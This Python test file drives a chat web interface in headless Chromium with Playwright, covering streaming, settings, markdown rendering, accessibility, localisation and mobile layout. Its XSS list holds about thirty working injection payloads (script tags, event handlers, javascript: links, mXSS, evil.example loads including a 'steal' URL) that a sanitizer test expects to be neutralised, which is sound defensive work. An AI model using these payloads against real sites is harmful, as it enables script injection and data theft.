"""The page in a real Chromium: it talks, it renders, and nothing that a model says becomes markup."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from .conftest import Serve, Served

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
_NAMES = ("chromium", "chromium-browser", "google-chrome")
CHROMIUM = next((path for name in _NAMES if (path := shutil.which(name))), None)
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium on this machine")

XSS = [
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "[click](javascript:window.hit=1)",
    "[click](  javascript:window.hit=1)",
    "[click](java\nscript:window.hit=1)",
    "[click](JaVaScRiPt:window.hit=1)",
    "[click](data:text/html,<script>window.hit=1</script>)",
    "[click](vbscript:msgbox)",
    "![x](https://evil.example/steal?q=secret)",
    "![x](javascript:window.hit=1)",
    '[x](https://a.example"onmouseover="window.hit=1)',
    "`<script>window.hit=1</script>`",
    "```html\n<script>window.hit=1</script>\n<img src=x onerror=window.hit=1>\n```",
    "```<img/src=x/onerror=window.hit=1>\ncode\n```",
    "| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| <script>window.hit=1</script> | c |",
    "# <img src=x onerror=window.hit=1>",
    "> <details open ontoggle=window.hit=1>",
    "- <a href=javascript:window.hit=1>x</a>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "</textarea></template></title></style><script>window.hit=1</script>",
    "<style>@import 'https://evil.example/x.css'</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/><form action=https://evil.example><input name=q>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hit=1&gt;'>",
    "https://evil.example/<script>window.hit=1</script>",
    "[<img src=x onerror=window.hit=1>](https://a.example)",
    "**<b onclick=window.hit=1>x**",
    "<think><script>window.hit=1</script></think>",
    "\u202e<script>window.hit=1</script>\u0000",
    "*" * 3000 + "[" * 3000 + "`" * 3001,
    "> " * 3000 + "x",
    "- " * 3000 + "x",
]
MARKDOWN = """## Loading a file

Use `pathlib` from the **standard library**:

```python
from pathlib import Path

# read a file as text
text = Path("notes.txt").read_text(encoding="utf-8")
for number, line in enumerate(text.splitlines(), start=1):
    print(f"{number:4d}  {line}")
```

1. The file is *closed* at once.
2. Errors name it:
   - `FileNotFoundError`
   - `PermissionError`

| call | gives |
|---|---|
| `read_text()` | a string |
| `read_bytes()` | bytes |

> See the [documentation](https://docs.python.org/3/library/pathlib.html)."""
_ALLOWED = """P H1 H2 H3 H4 HR BLOCKQUOTE UL OL LI TABLE THEAD TBODY TR TH TD DIV CODE PRE STRONG EM DEL A BR FIGURE
FIGCAPTION SPAN BUTTON DETAILS SUMMARY"""
ALLOWED = frozenset(_ALLOWED.split())


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright.sync_playwright() as running:
        browser = running.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


@pytest.fixture
def page(browser: Any, served: Served) -> Iterator[Any]:
    context = browser.new_context(locale="en-US", viewport={"width": 1200, "height": 800})
    page = context.new_page()
    page.problems = []
    page.on("pageerror", lambda error: page.problems.append(str(error)))
    page.on("console", lambda message: page.problems.append(message.text) if message.type == "error" else None)
    page.on("dialog", lambda dialog: page.problems.append(dialog.message))
    page.goto(served.url)
    yield page
    assert page.problems == []
    context.close()


def answer_with(page: Any, content: str, reasoning: str = "") -> list[dict[str, Any]]:
    """The server's next answers are this text; returns the bodies that the page sends."""
    bodies: list[dict[str, Any]] = []

    def fulfil(route: Any) -> None:
        bodies.append(json.loads(route.request.post_data))
        deltas = [{"reasoning_content": reasoning}] if reasoning else []
        deltas += [{"content": content[start : start + 7]} for start in range(0, len(content), 7)]
        records = [{"choices": [{"index": 0, "delta": delta, "finish_reason": None}]} for delta in deltas]
        records.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
        records.append({"choices": [], "usage": {"completion_tokens": len(deltas)}})
        events = [f"data: {json.dumps(record)}\n\n" for record in records]
        route.fulfill(content_type="text/event-stream", body="".join([*events, "data: [DONE]\n\n"]))

    page.unroute_all()
    page.route("**/v1/chat/completions", fulfil)
    return bodies


def ask(page: Any, text: str) -> Any:
    """Ask, wait for the end, and return the last answer's element."""
    before = page.locator(".turn.assistant .tools").count()
    page.fill("#question", text)
    page.press("#question", "Enter")
    playwright.expect(page.locator(".turn.assistant .tools")).to_have_count(before + 1, timeout=30_000)
    return page.locator(".turn.assistant").last


def test_it_talks_to_the_real_server_and_remembers(page: Any, served: Served) -> None:
    playwright.expect(page.locator("#model")).to_have_text("tiny")
    turn = ask(page, "the cat <b>sat</b>")
    assert "tokens/s" in turn.locator(".tools").inner_text()
    assert page.locator(".turn.user").inner_text().endswith("the cat <b>sat</b>")
    said = turn.locator(".body").last.inner_text()
    page.reload()
    playwright.expect(page.locator("#list .title")).to_have_text("the cat <b>sat</b>")
    page.click("#list .title")
    assert page.locator(".turn.assistant .body").last.inner_text() == said
    page.click("#new")
    playwright.expect(page.locator("#welcome")).to_be_visible()
    page.click("#list .remove")
    playwright.expect(page.locator("#list li")).to_have_count(0)


def test_stop_and_retry(page: Any) -> None:
    page.click("#open-settings")
    page.fill("#max_tokens", "1900")
    page.click("#settings .primary")
    page.fill("#question", "the cat")
    page.route("**/v1/chat/completions", lambda route: None)  # an answer that does not end by itself
    page.press("#question", "Enter")
    page.click("#stop")
    playwright.expect(page.locator(".turn .tools")).to_contain_text("Stopped")
    bodies = answer_with(page, "fresh")
    page.click(".retry")
    playwright.expect(page.locator(".turn.assistant .body").last).to_have_text("fresh")
    assert page.locator(".turn").count() == 2
    assert [message["role"] for message in bodies[0]["messages"]] == ["user"]


def test_settings_are_sent_and_kept(page: Any) -> None:
    page.click("#open-settings")
    page.fill("#system", "be brief")
    page.fill("#temperature", "0.3")
    page.fill("#seed", "7")
    page.keyboard.press("Escape")
    page.reload()
    bodies = answer_with(page, "yes")
    ask(page, "well?")
    assert bodies[0]["messages"][0] == {"role": "system", "content": "be brief"}
    assert (bodies[0]["temperature"], bodies[0]["seed"], "top_p" in bodies[0]) == (0.3, 7, False)


def test_markdown_becomes_elements(page: Any) -> None:
    answer_with(page, MARKDOWN, reasoning="They want to *read* a file.")
    turn = ask(page, "how do I read a file?")
    body = turn.locator(".body").last
    assert body.locator("h2").inner_text() == "Loading a file"
    assert body.locator("pre code").inner_text().startswith("from pathlib import Path\n\n# read")
    assert body.locator("ol > li").count() == 2 and body.locator("ol ul > li").count() == 2
    assert body.locator("td").all_inner_texts() == ["read_text()", "a string", "read_bytes()", "bytes"]
    assert body.locator("a").get_attribute("rel") == "noopener noreferrer nofollow"
    assert not turn.locator("details .body").is_visible(), "reasoning is folded away"
    turn.locator("summary").click()
    assert turn.locator("details em").inner_text() == "read"


def test_nothing_that_a_model_says_becomes_markup(page: Any, served: Served) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for attack in XSS:
        page.click("#new")
        answer_with(page, attack, reasoning=attack)
        turn = ask(page, attack)
        names = set(turn.locator("css=.body *").evaluate_all("all => all.map(one => one.tagName)"))
        assert names <= ALLOWED, attack
        attributes = set(turn.locator("css=.body *").evaluate_all("all => all.flatMap(one => one.getAttributeNames())"))
        assert attributes <= {"class", "href", "rel", "target", "type", "tabindex", "start"}, attack
        for target in turn.locator("css=.body a").evaluate_all("all => all.map(one => one.href)"):
            assert target.startswith(("https://", "http://", "mailto:")), attack
    assert page.evaluate("window.hit") is None
    assert [url for url in asked if not url.startswith(served.url)] == []


def test_the_policy_blocks_what_would_slip_through(page: Any) -> None:
    """Were the renderer broken, the browser itself would refuse: no markup from strings, no inline script."""
    for markup in ("document.body.innerHTML = '<b>x</b>'", "document.body.setAttribute('onclick', 'window.hit=1')"):
        assert page.evaluate(f"() => {{ try {{ {markup}; return false }} catch (error) {{ return true }} }}")
    assert page.evaluate("window.hit") is None
    page.problems.clear()  # the browser has reported what it refused


def test_chinese_dark_and_errors(page: Any) -> None:
    page.click("#language")
    assert page.evaluate("document.documentElement.lang") == "zh-CN"
    playwright.expect(page.locator("#welcome h2")).to_have_text("想了解什么？")
    page.click("#theme")
    assert page.evaluate("document.documentElement.className") == "dark"
    page.unroute_all()
    full = {"error": {"message": "full", "type": "rate_limit_error", "param": None, "code": None}}
    page.route("**/v1/chat/completions", lambda route: route.fulfill(status=429, json=full))
    turn = ask(page, "在吗")
    assert "服务器已满" in turn.locator(".error").inner_text()
    page.reload()
    assert page.evaluate("document.documentElement.lang") == "zh-CN"
    page.problems.clear()  # a failed request is reported by the browser, too


def test_the_keyboard_reaches_everything_and_names_are_there(page: Any) -> None:
    reached = set()
    page.focus("#question")
    page.fill("#question", "x")
    for _ in range(12):
        page.keyboard.press("Tab")
        reached.add(page.evaluate("document.activeElement.id || document.activeElement.className"))
    assert {"send", "new", "language", "theme", "open-settings", "skip"} <= reached
    nameless = page.evaluate(
        """() => [...document.querySelectorAll('button, textarea, input')]
            .filter(one => !(one.getAttribute('aria-label') || one.textContent.trim() || one.labels?.length))
            .map(one => one.id)"""
    )
    assert nameless == []
    assert page.locator("[role=status]").count() == 1


def test_it_fits_a_phone(browser: Any, served: Served, tmp_path: Path) -> None:
    context = browser.new_context(
        locale="en-US", viewport={"width": 375, "height": 667}, device_scale_factor=2, is_mobile=True, has_touch=True
    )
    page = context.new_page()
    page.goto(served.url)
    answer_with(page, MARKDOWN + "\n\n" + "x" * 300)
    ask(page, "how do I read a file?")
    assert page.evaluate("document.documentElement.scrollWidth") <= 375
    assert not page.locator("#new").is_visible()
    page.tap("#open-side")
    playwright.expect(page.locator("#new")).to_be_visible()
    page.tap("#veil", position={"x": 360, "y": 300})
    playwright.expect(page.locator("#new")).not_to_be_visible()
    context.close()


def test_a_browser_gives_the_key_as_a_password(browser: Any, serve: Serve) -> None:
    locked = serve(["k" * 24])
    context = browser.new_context(http_credentials={"username": "me", "password": "k" * 24})
    page = context.new_page()
    page.goto(locked.url)
    turn = ask(page, "the cat")
    assert turn.locator(".error").count() == 0
    context.close()


@pytest.mark.skipif("ANYCHIP_SCREENSHOTS" not in os.environ, reason="ANYCHIP_SCREENSHOTS names no folder")
def test_screenshots(browser: Any, served: Served) -> None:
    folder = Path(os.environ["ANYCHIP_SCREENSHOTS"])
    shots = {
        "light": {"color_scheme": "light", "locale": "en-US", "viewport": {"width": 1280, "height": 900}},
        "dark": {"color_scheme": "dark", "locale": "en-US", "viewport": {"width": 1280, "height": 900}},
        "phone": {"color_scheme": "light", "locale": "en-US", "viewport": {"width": 390, "height": 844}},
        "chinese": {"color_scheme": "light", "locale": "zh-CN", "viewport": {"width": 1280, "height": 900}},
    }
    for name, options in shots.items():
        context = browser.new_context(**options)
        page = context.new_page()
        page.goto(served.url)
        page.wait_for_timeout(300)
        page.screenshot(path=folder / f"{name}-empty.png")
        answer_with(page, "第一个回答。" if name == "chinese" else "Yes: **two** of them.")
        ask(page, "有猫吗？" if name == "chinese" else "Are there cats?")
        answer_with(page, MARKDOWN, reasoning="They want to read a file.")
        ask(page, "怎样读取文件？" if name == "chinese" else "How do I read a file in Python?")
        page.screenshot(path=folder / f"{name}.png")
        if name in ("light", "phone"):
            page.click("#open-settings")
            page.wait_for_timeout(200)
            page.screenshot(path=folder / f"{name}-settings.png")
        context.close()
